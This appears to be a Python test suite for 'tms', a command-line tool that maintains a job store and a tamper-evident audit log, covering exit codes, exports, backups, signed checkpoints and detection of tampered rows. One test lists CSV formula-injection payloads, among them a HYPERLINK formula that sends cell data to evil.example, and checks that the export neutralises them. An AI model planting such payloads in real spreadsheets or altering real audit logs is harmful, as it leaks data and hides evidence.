"""The `tms` tool (target/release/tms) on real stores: every command, its exit status (0 ok, 1 a
check found a problem, 2 usage or open errors), its JSON and CSV, and a backup taken while a
writer keeps writing."""

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time

import pytest

import tms
from conftest import ROOT, Location

TMS = os.path.join(ROOT, "target", "release", "tms")
COMMANDS = ["init", "verify-audit", "adopt-unchained", "recover", "jobs", "audit", "backup", "copy", "stats", "migrate",
            "keygen", "checkpoint"]


def run(*args, cwd=None, env=None):
    full_env = dict(os.environ)
    full_env.pop("TMS_JOBS_DB", None)
    full_env.pop("TMS_AUDIT_DB", None)
    full_env.pop("TMS_AUDIT_HMAC_KEY_FILE", None)
    full_env.update(env or {})
    return subprocess.run([TMS, *args], cwd=cwd, env=full_env, capture_output=True, text=True, timeout=120)


@pytest.fixture
def filled(tmp_path):
    s = tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"))
    first = s.create_job("alice", 1, "Trans-Begin", ["c1", "c2"])
    second = s.create_job("alice", 2, "PE-Enable", ["c3"])
    s.update_job(second["job_id"], "SUCCESS", 200)
    s.record_audit("alice", "Trans-Begin", ["c1", "c2"], ip_address="10.0.0.1")
    s.record_audit("bob", "PE-Enable", "c10", status="failure", error_message="no, with a comma")
    s.cache_put("c1", {"ready": True})
    s.close()
    return tmp_path, first["job_id"], second["job_id"]


def test_help_on_every_command():
    out = run("--help")
    assert out.returncode == 0 and all(c in out.stdout for c in COMMANDS)
    for command in COMMANDS:
        out = run(command, "--help")
        assert out.returncode == 0 and "Usage: tms " + command in out.stdout, command


def test_usage_errors_and_unopenable_stores_exit_2(tmp_path):
    assert run("no-such-command").returncode == 2
    assert run("jobs").returncode == 2  # --user is required
    assert run("recover", "--older-than", "1").returncode == 2
    out = run("--jobs-db", str(tmp_path / "missing" / "jobs.db"), "stats")
    assert out.returncode == 2 and out.stderr.startswith("tms: TMS_STATUS_CANT_OPEN:"), out.stderr
    out = run("verify-audit", "--anchor", "not-an-anchor", cwd=tmp_path)
    assert out.returncode == 2 and "SEQ:HASH" in out.stderr


def test_verify_audit_exits_1_on_tampering_and_sees_a_cut_tail(filled):
    d, _, _ = filled
    out = run("verify-audit", cwd=d)
    assert out.returncode == 0, out.stderr
    head = json.loads(out.stdout)["head"]
    def tamper(sql):
        # Every open of the store puts the triggers back: an attacker drops them each time.
        con = sqlite3.connect(d / "audit.db")
        con.executescript("DROP TRIGGER IF EXISTS audit_log_no_update; DROP TRIGGER IF EXISTS audit_log_no_delete; " + sql)
        con.close()

    tamper("UPDATE audit_log SET user_id = 'mallory' WHERE chain_seq = 1")
    out = run("verify-audit", cwd=d)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "altered"
    tamper("UPDATE audit_log SET user_id = 'alice' WHERE chain_seq = 1; DELETE FROM audit_log WHERE chain_seq = 2")
    assert run("verify-audit", cwd=d).returncode == 0
    out = run("verify-audit", "--anchor", f"{head['seq']}:{head['hash']}", cwd=d)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "cut"


def test_a_keyed_log_needs_the_key_file(tmp_path):
    key = "cli-hmac-key-0123456789"
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
        s.record_audit("alice", "Trans-Begin")
    out = run("verify-audit", cwd=tmp_path)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "unverifiable"
    (tmp_path / "key").write_text(key + "\n")
    assert run("--hmac-key-file", str(tmp_path / "key"), "verify-audit", cwd=tmp_path).returncode == 0


def test_jobs_audit_and_stats(filled):
    d, first, second = filled
    out = run("jobs", "--user", "alice", cwd=d)
    listed = [json.loads(line) for line in out.stdout.splitlines()]
    assert [j["job_id"] for j in listed] == [second, first]  # newest first
    assert run("jobs", "--user", "alice", "--limit", "1", cwd=d).stdout.count("\n") == 1
    rows = [json.loads(line) for line in run("audit", "--customer", "c1", cwd=d).stdout.splitlines()]
    assert [r["user_id"] for r in rows] == ["alice"]  # c1 does not match c10
    out = run("audit", "--user", "bob", "--format", "csv", cwd=d)
    parsed = list(csv.DictReader(io.StringIO(out.stdout)))
    assert parsed[0]["error_message"] == "no, with a comma" and parsed[0]["status"] == "failure"
    stats = json.loads(run("stats", cwd=d).stdout)
    assert stats["jobs"] == 2 and stats["jobs_by_status"] == {"IN_PROGRESS": 1, "SUCCESS": 1}
    import sqlite3
    assert stats["sqlite_version"] == sqlite3.sqlite_version  # the system SQLite, as Python's
    assert (stats["job_customers"], stats["audit_rows"], stats["cache_entries"]) == (3, 2, 1)
    # The durability default, as the tool's own store connections have it.
    assert stats["durability"] == {"jobs.synchronous": "FULL", "jobs.journal_mode": "wal",
                                   "audit.synchronous": "FULL", "audit.journal_mode": "wal"}
    # The environment chooses the files too.
    env = {"TMS_JOBS_DB": str(d / "jobs.db"), "TMS_AUDIT_DB": str(d / "audit.db")}
    assert json.loads(run("stats", cwd="/", env=env).stdout)["jobs"] == 2


def test_recover_counts_what_opening_marked(filled):
    d, first, _ = filled
    # The row a Set Action leaves when its process dies mid-call (see test_set_action's killed
    # process); a job from create_job alone is its caller's and never recovered.
    import sqlite3
    with sqlite3.connect(d / "jobs.db") as conn:
        conn.execute("UPDATE jobs SET set_action_job = 1 WHERE job_id = ?", (first,))
    conn.close()
    time.sleep(2.2)
    out = run("recover", "--older-than", "2", cwd=d)
    assert out.returncode == 0 and json.loads(out.stdout) == {"recovered": 1}, out.stderr
    with tms.Store(str(d / "jobs.db"), str(d / "audit.db")) as s:
        assert s.get_job(first)["status"] == "FAILED"


WRITER = """
import itertools, sys, tms
s = tms.Store(sys.argv[1], sys.argv[2])
for i in itertools.count():
    s.create_job("app", 1, "Trans-Begin", [f"c{i}-{k}" for k in range(30)])
    s.record_audit("app", "Trans-Begin", [f"c{i}"])
    if i == 100:
        print("writing", flush=True)
"""


def test_backup_while_the_app_writes(tmp_path):
    jobs_db, audit_db = str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")
    tms.Store(jobs_db, audit_db).close()
    writer = subprocess.Popen([sys.executable, "-c", WRITER, jobs_db, audit_db],
                              env=dict(os.environ, PYTHONPATH=os.path.join(ROOT, "bindings", "python")),
                              stdout=subprocess.PIPE, text=True)
    try:
        assert writer.stdout.readline().strip() == "writing"
        out = run("--jobs-db", jobs_db, "--audit-db", audit_db, "backup", str(tmp_path / "copy"))
        assert out.returncode == 0, out.stderr
        report = json.loads(out.stdout)
        assert report["integrity_check"] == "ok" and report["audit_verification"]["ok"]
    finally:
        writer.kill()
        writer.wait()
    copy = sqlite3.connect(tmp_path / "copy" / "jobs.db")
    assert copy.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    n = copy.execute("SELECT COUNT(*) FROM jobs").fetchone()[0]
    assert n > 100
    assert copy.execute("SELECT COUNT(*) FROM job_customers").fetchone() == (30 * n,)  # whole jobs only
    # Backing up onto an existing backup is refused rather than overwriting it.
    again = run("--jobs-db", jobs_db, "--audit-db", audit_db, "backup", str(tmp_path / "copy"))
    assert again.returncode == 2


def test_copy_to_files_and_to_postgres(filled):
    d, first, _ = filled
    out = run("copy", "--to", str(d / "copy" / "jobs.db"), cwd=d)
    assert out.returncode == 2  # the destination directory does not exist
    (d / "copy").mkdir()
    out = run("copy", "--to", str(d / "copy" / "jobs.db"), cwd=d)
    assert out.returncode == 0, out.stderr
    report = json.loads(out.stdout)
    assert (report["jobs"]["copied"], report["audit"]["copied"]) == (2, 2) and report["audit_verification"]["ok"]
    assert json.loads(run("--jobs-db", str(d / "copy" / "jobs.db"), "--audit-db", str(d / "copy" / "audit.db"),
                          "stats").stdout)["jobs"] == 2
    pg = Location(d, engine="postgres")
    try:
        out = run("copy", "--to", pg.jobs, cwd=d)
        assert out.returncode == 0, out.stderr
        assert json.loads(out.stdout)["jobs"]["copied"] == 2
        assert json.loads(run("--jobs-db", pg.jobs, "verify-audit").stdout)["ok"]
        pg_stats = json.loads(run("--jobs-db", pg.jobs, "stats").stdout)
        assert pg_stats["job_customers"] == 3 and pg_stats["durability"] == {"synchronous_commit": "on"}
    finally:
        pg.drop()


def test_nothing_on_stderr_when_it_is_not_a_terminal(filled):
    d, _, _ = filled
    out = run("verify-audit", cwd=d)
    assert out.returncode == 0 and out.stderr == ""


def legacy_log_action(audit_db, user_id):
    """The legacy app's log_action after a rollback: a plain INSERT without the chain's columns."""
    con = sqlite3.connect(audit_db)
    with con:
        con.execute("INSERT INTO audit_log (user_id, action_type, status) VALUES (?, 'PE-Enable', 'success')", (user_id,))
    con.close()


def test_adopt_unchained_after_a_rollback_and_its_exit_statuses(filled):
    tmp, _, _ = filled
    out = run("adopt-unchained", "--reason", "INC-3", cwd=tmp)
    assert out.returncode == 2 and out.stderr.startswith("tms: TMS_STATUS_NOT_FOUND: nothing to adopt"), out.stderr
    legacy_log_action(str(tmp / "audit.db"), "carol")
    legacy_log_action(str(tmp / "audit.db"), "dave")
    out = run("verify-audit", cwd=tmp)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "inserted"
    assert run("adopt-unchained", cwd=tmp).returncode == 2  # --reason is required
    out = run("adopt-unchained", "--reason", "", cwd=tmp)
    assert out.returncode == 2 and "TMS_STATUS_INVALID_INPUT" in out.stderr, out.stderr
    out = run("adopt-unchained", "--reason", "INC-3: rolled back to 1.x and forward", cwd=tmp)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == {"adopted": 2, "ids": "3-4", "after_seq": 2, "marker_id": 5, "marker_seq": 3}
    out = run("verify-audit", cwd=tmp)
    assert out.returncode == 0 and json.loads(out.stdout)["adopted"] == 2, out.stdout
    out = run("audit", "--action", "audit_adopt_unchained", cwd=tmp)
    assert "reason: INC-3: rolled back to 1.x and forward" in json.loads(out.stdout)["error_message"]


def test_adopt_unchained_refuses_a_broken_chain_with_exit_1(filled):
    tmp, _, _ = filled
    legacy_log_action(str(tmp / "audit.db"), "ghost")
    s = tms.Store(str(tmp / "jobs.db"), str(tmp / "audit.db"))
    s.record_audit("alice", "Trans-Begin")  # forward again: chained after the legacy row
    s.close()
    import sqlite3
    with sqlite3.connect(tmp / "audit.db") as conn:  # and someone rewrote a chained row
        conn.execute("DROP TRIGGER audit_log_no_update")
        conn.execute("UPDATE audit_log SET user_id = 'mallory' WHERE id = 1")
    conn.close()
    out = run("adopt-unchained", "--reason", "INC-4", cwd=tmp)
    assert out.returncode == 1 and "TMS_STATUS_AUDIT_CHAIN_BROKEN" in out.stderr and "altered" in out.stderr, out.stderr
    assert out.stdout == ""
    assert run("verify-audit", cwd=tmp).returncode == 1


def test_adopt_unchained_on_a_keyed_log_needs_the_key_file(tmp_path):
    key = tmp_path / "key"
    key.write_text("cli-adopt-key-0123456789abcdef\n")
    s = tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key="cli-adopt-key-0123456789abcdef")
    s.record_audit("alice", "Trans-Begin")
    s.close()
    legacy_log_action(str(tmp_path / "audit.db"), "carol")
    out = run("adopt-unchained", "--reason", "INC-5", cwd=tmp_path)
    assert out.returncode == 2 and "TMS_STATUS_AUDIT_KEY_MISMATCH" in out.stderr, out.stderr
    assert "cli-adopt-key" not in out.stderr
    out = run("--hmac-key-file", str(key), "adopt-unchained", "--reason", "INC-5", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert run("--hmac-key-file", str(key), "verify-audit", cwd=tmp_path).returncode == 0
    # The drop-ins' variable is the tool's default, so one environment configures both.
    out = run("verify-audit", cwd=tmp_path, env={"TMS_AUDIT_HMAC_KEY_FILE": str(key)})
    assert out.returncode == 0 and json.loads(out.stdout)["ok"], out.stdout + out.stderr
    assert run("verify-audit", cwd=tmp_path).returncode == 1  # unverifiable without the key


def seed_of(private_key_text):
    """The secret part of a private key line (past PKCS#8's fixed header)."""
    return private_key_text.strip().split("+", 4)[4][24:56]


def test_keygen_writes_a_private_file_for_its_owner_only_and_never_overwrites(tmp_path):
    out = run("keygen", "--out", str(tmp_path / "keys"), "--name", "audit.cli", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    private, public = tmp_path / "keys" / "tms-checkpoint.key", tmp_path / "keys" / "tms-checkpoint.pub"
    assert os.stat(private).st_mode & 0o777 == 0o600 and os.stat(tmp_path / "keys").st_mode & 0o777 == 0o700
    printed = json.loads(out.stdout)
    assert printed["public_key"] + "\n" == public.read_text() and public.read_text().startswith("audit.cli+")
    seed = seed_of(private.read_text())
    assert seed not in out.stdout + out.stderr
    before = (private.read_text(), public.read_text())
    again = run("keygen", "--out", str(tmp_path / "keys"), cwd=tmp_path)
    assert again.returncode == 2 and "refusing to overwrite" in again.stderr
    assert (private.read_text(), public.read_text()) == before
    os.remove(private)  # one of the two left: still refused, the other kept
    assert run("keygen", "--out", str(tmp_path / "keys"), cwd=tmp_path).returncode == 2
    assert not private.exists() and public.read_text() == before[1]
    for name in ("has space", "a+b", ""):
        assert run("keygen", "--out", str(tmp_path / "k2"), "--name", name, cwd=tmp_path).returncode == 2, name
    out = run("keygen", "--out", str(tmp_path / "k3"), cwd=tmp_path)  # the default name: tms-audit.HOST
    assert out.returncode == 0 and json.loads(out.stdout)["name"].startswith("tms-audit")


def test_checkpoint_and_verify_audit_against_it_exit_1_on_every_attack(filled):
    from test_checkpoints import read_log, rewrite

    d, _, _ = filled
    loc = Location(d, engine="sqlite")
    assert run("keygen", "--out", "keys", "--name", "audit.cli", cwd=d).returncode == 0
    assert run("keygen", "--out", "other", "--name", "audit.cli", cwd=d).returncode == 0
    seed = seed_of((d / "keys" / "tms-checkpoint.key").read_text())
    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=d)
    assert out.returncode == 0 and out.stderr == "", out.stderr
    assert out.stdout.startswith("audit.cli\n2\nsha256:") and "\n\n\u2014 audit.cli " in out.stdout
    assert seed not in out.stdout
    (d / "cp").write_text(out.stdout)

    def verify(checkpoint="cp", public="keys/tms-checkpoint.pub"):
        return run("verify-audit", "--checkpoint", checkpoint, "--public-key", public, cwd=d)

    def problem():
        out = verify()
        report = json.loads(out.stdout)
        assert out.returncode == (0 if report["ok"] else 1), out
        return None if report["ok"] else (report["first_problem"]["problem"], report["first_problem"]["seq"])

    first = verify()
    assert first.returncode == 0, first.stderr
    assert json.loads(first.stdout)["checkpoint"]["seq"] == 2
    with tms.Store(str(d / "jobs.db"), str(d / "audit.db")) as s:  # the log grows: still ok
        s.record_audit("carol", "T-Enable", ["c4"])
        s.record_audit("dave", "T-Enable", ["c5"])
    assert problem() is None
    original = read_log(loc)

    changed = [list(r) for r in original]
    changed[0][0] = "mallory"
    rewrite(loc, changed)  # a row changed and the whole chain recomputed
    assert run("verify-audit", cwd=d).returncode == 0
    assert problem() == ("altered", 2)
    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", "--previous", "cp", cwd=d)
    assert out.returncode == 1 and out.stdout == "" and "TMS_STATUS_AUDIT_CHAIN_BROKEN" in out.stderr, out.stderr
    inserted = [original[0], ["ghost", *original[0][1:]], *original[1:]]
    rewrite(loc, inserted)  # a row inserted before the checkpoint
    assert problem() == ("altered", 2)
    rewrite(loc, original)
    assert problem() is None
    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", "--previous", "cp", cwd=d)
    assert out.returncode == 0 and out.stdout.startswith("audit.cli\n4\n"), out.stderr
    out = run("checkpoint", "--signing-key", "other/tms-checkpoint.key", "--previous", "cp", cwd=d)
    assert out.returncode == 1 and "TMS_STATUS_CHECKPOINT_INVALID" in out.stderr  # not this key's

    # A checkpoint that does not verify: forged, another key, malformed.
    (d / "forged").write_text((d / "cp").read_text().replace("\n2\n", "\n3\n", 1))
    (d / "garbage").write_text("audit.cli\n2\n")
    (d / "damaged").write_bytes((d / "cp").read_bytes().replace(b"\n2\n", b"\n\xff\n", 1))  # not UTF-8
    for args in (("forged", "keys/tms-checkpoint.pub"), ("cp", "other/tms-checkpoint.pub"), ("garbage", "keys/tms-checkpoint.pub"),
                 ("damaged", "keys/tms-checkpoint.pub")):
        out = verify(*args)
        assert out.returncode == 1 and out.stderr.startswith("tms: TMS_STATUS_CHECKPOINT_INVALID:"), (args, out.stderr)
    # Usage errors: exit 2.
    assert verify("missing").returncode == 2
    assert verify("cp", "keys/tms-checkpoint.key").returncode == 2  # a private key where the public belongs
    assert run("verify-audit", "--checkpoint", "cp", cwd=d).returncode == 2
    assert run("checkpoint", "--signing-key", "keys/tms-checkpoint.pub", cwd=d).returncode == 2
    assert run("checkpoint", "--signing-key", "missing", cwd=d).returncode == 2

    # Rows cut back past the checkpoint.
    con = sqlite3.connect(d / "audit.db")
    con.executescript("DROP TRIGGER IF EXISTS audit_log_no_delete; DELETE FROM audit_log WHERE chain_seq >= 2")
    con.close()
    assert problem() == ("cut", 2)
    # A log that does not verify is not signed: exit 1, nothing on stdout.
    con = sqlite3.connect(d / "audit.db")
    con.executescript("DROP TRIGGER IF EXISTS audit_log_no_update; UPDATE audit_log SET status = 'failure' WHERE chain_seq = 1")
    con.close()
    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=d)
    assert out.returncode == 1 and out.stdout == "" and "TMS_STATUS_AUDIT_CHAIN_BROKEN" in out.stderr
    assert seed not in out.stderr


def test_checkpoint_of_a_keyed_log_and_a_rewrite_with_or_without_the_key(tmp_path):
    from test_checkpoints import read_log, rewrite

    key = "cli-checkpoint-hmac-0123456789"
    (tmp_path / "hmac").write_text(key + "\n")
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
        for user in ("alice", "bob", "carol"):
            s.record_audit(user, "Trans-Begin", ["c1"])
    assert run("keygen", "--out", "keys", "--name", "audit.keyed", cwd=tmp_path).returncode == 0
    out = run("checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=tmp_path)
    assert out.returncode == 2 and "TMS_STATUS_AUDIT_KEY_MISMATCH" in out.stderr
    out = run("--hmac-key-file", "hmac", "checkpoint", "--signing-key", "keys/tms-checkpoint.key", cwd=tmp_path)
    assert out.returncode == 0 and "\nhmac-sha256:" in out.stdout, out.stderr
    (tmp_path / "cp").write_text(out.stdout)
    verify = ("--hmac-key-file", "hmac", "verify-audit", "--checkpoint", "cp", "--public-key", "keys/tms-checkpoint.pub")
    assert run(*verify, cwd=tmp_path).returncode == 0
    loc = Location(tmp_path, engine="sqlite")
    changed = [list(r) for r in read_log(loc)]
    changed[1][5] = "failure"
    rewrite(loc, changed, key)  # with the stolen key
    assert run("--hmac-key-file", "hmac", "verify-audit", cwd=tmp_path).returncode == 0
    out = run(*verify, cwd=tmp_path)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "altered"
    rewrite(loc, changed)  # a key-less chain swapped in: with the key it holds no keyed row at all
    out = run(*verify, cwd=tmp_path)
    assert out.returncode == 1 and json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"


def test_audit_csv_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
    # A cluster's message lands in error_message: as CSV it must not be a live formula.
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
        for i, message in enumerate(hostile):
            s.record_audit("=user" if i == 0 else "bob", "PE-Enable", "c1", status="failure", error_message=message)
        s.record_audit("carol", "PE-Enable", "c1", status="failure", error_message="plain, a=1 -fine")
    # Bytes: text mode would turn the message's carriage return into a newline.
    out = subprocess.run([TMS, "audit", "--format", "csv", "--limit", "100"], cwd=tmp_path, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr
    rows = list(reversed(list(csv.DictReader(io.StringIO(out.stdout.decode(), newline="")))))
    assert [r["error_message"] for r in rows] == ["'" + m for m in hostile] + ["plain, a=1 -fine"]
    assert rows[0]["user_id"] == "'=user" and rows[1]["user_id"] == "bob"
    jsonl = [json.loads(line) for line in run("audit", "--limit", "100", cwd=tmp_path).stdout.splitlines()]
    assert [r["error_message"] for r in reversed(jsonl)] == hostile + ["plain, a=1 -fine"]
    assert jsonl[-1]["user_id"] == "=user"
    help_text = run("audit", "--help").stdout
    assert "formula" in help_text and "'" in help_text


READING = [["verify-audit"], ["adopt-unchained", "--reason", "r"], ["recover"], ["jobs", "--user", "u"], ["audit"],
           ["backup", "bk"], ["copy", "--to", "dst/jobs.db"], ["stats"], ["migrate"]]


@pytest.mark.parametrize("command", READING, ids=lambda c: c[0])
def test_no_command_but_init_creates_a_store_at_a_mistyped_path(tmp_path, command):
    (tmp_path / "dst").mkdir()
    for missing in ["jobs", "audit"]:
        d = tmp_path / missing
        d.mkdir()
        if missing == "audit":  # only audit.db is mistyped: jobs.db exists
            tms.Store(str(d / "jobs.db"), str(d / "real-audit.db")).close()
        before = sorted(p.name for p in d.iterdir())
        out = run("--jobs-db", str(d / "jobs.db"), "--audit-db", str(d / "audit.db"), *command, cwd=d)
        assert out.returncode == 2, (command, out.stdout, out.stderr)
        assert out.stderr.startswith("tms: TMS_STATUS_CANT_OPEN:") and f"{d / (missing + '.db')}" in out.stderr, out.stderr
        assert out.stdout == ""
        assert sorted(p.name for p in d.iterdir()) == before, command  # nothing created
    assert not any((tmp_path / "dst").iterdir())


def test_init_creates_a_store_and_copy_creates_its_destination(tmp_path):
    out = run("init", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == {"initialized": True, "created": ["jobs.db", "audit.db"]}
    assert json.loads(run("verify-audit", cwd=tmp_path).stdout)["checked"] == 0
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as s:
        s.record_audit("alice", "Trans-Begin")
    again = run("init", cwd=tmp_path)  # an existing store is kept as it is
    assert again.returncode == 0 and json.loads(again.stdout)["created"] == []
    assert json.loads(run("stats", cwd=tmp_path).stdout)["audit_rows"] == 1
    (tmp_path / "new").mkdir()
    out = run("copy", "--to", str(tmp_path / "new" / "jobs.db"), cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert sorted(p.name for p in (tmp_path / "new").iterdir() if p.suffix == ".db") == ["audit.db", "jobs.db"]


def test_a_postgres_schema_without_a_store_is_refused_until_init(tmp_path):
    pg = Location(tmp_path, engine="postgres")
    try:
        out = run("--jobs-db", pg.jobs, "stats")
        assert out.returncode == 2 and "TMS_STATUS_CANT_OPEN" in out.stderr and "tms init" in out.stderr, out.stderr
        assert "holds no store" in out.stderr
        out = run("--jobs-db", pg.jobs, "init")
        assert out.returncode == 0 and json.loads(out.stdout) == {"initialized": True, "created": []}, out.stderr
        assert json.loads(run("--jobs-db", pg.jobs, "verify-audit").stdout)["ok"]
    finally:
        pg.drop()


def test_a_keyed_log_swapped_for_a_keyless_forgery_fails_with_the_key(tmp_path):
    key = "cli-hmac-key-0123456789"
    (tmp_path / "key").write_text(key + "\n")
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db"), audit_hmac_key=key) as s:
        s.record_audit("alice", "Trans-Begin")
    # Someone with the files but not the key rewrites audit.db whole: a fresh plain chain.
    os.remove(tmp_path / "audit.db")
    with tms.Store(str(tmp_path / "jobs.db"), str(tmp_path / "audit.db")) as forger:
        forger.record_audit("alice", "Trans-Begin")
    assert run("verify-audit", cwd=tmp_path).returncode == 0  # without the key nothing shows
    out = run("--hmac-key-file", str(tmp_path / "key"), "verify-audit", cwd=tmp_path)
    assert out.returncode == 1, out.stdout
    assert json.loads(out.stdout)["first_problem"]["problem"] == "not_keyed"
